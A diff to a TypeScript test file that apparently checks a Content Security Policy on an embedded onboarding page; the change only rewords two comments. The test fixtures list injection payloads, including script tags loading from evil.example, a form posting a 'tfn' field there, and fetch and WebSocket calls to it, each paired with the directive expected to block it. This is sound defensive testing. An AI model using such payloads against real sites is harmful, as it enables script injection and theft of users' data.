@@ -14,7 +14,7 @@ const SERVICE = "https://api.embedded-super.example"
 const EVIL = "https://evil.example"
 const ADDRESS = `${SERVICE}/embed/v1/onboarding-session/1?nonce=n&signed=secret`
 
-/** What each piece of HTML would need, and the directive that refuses it. */
+/** Pieces of HTML to inject, and the directive that refuses each. */
 const injected: ReadonlyArray<readonly [html: string, directive: string]> = [
   [`<script>hacked = "inline"</script>`, "script-src-elem"],
   [`<script src="${EVIL}/script.js"></script>`, "script-src-elem"],
@@ -32,7 +32,7 @@ const injected: ReadonlyArray<readonly [html: string, directive: string]> = [
   [`<form id="send" action="${EVIL}/form" method="post"><input name="tfn"></form>`, "form-action"]
 ]
 
-/** What a script could try in the page, as text, and the directive that refuses it. */
+/** Scripts to try in the page, as text, and the directive that refuses each. */
 const tried: ReadonlyArray<readonly [script: string, directive: string]> = [
   [`fetch("${EVIL}/fetch").catch(() => {})`, "connect-src"],
   [`new WebSocket("wss://evil.example/socket")`, "connect-src"],
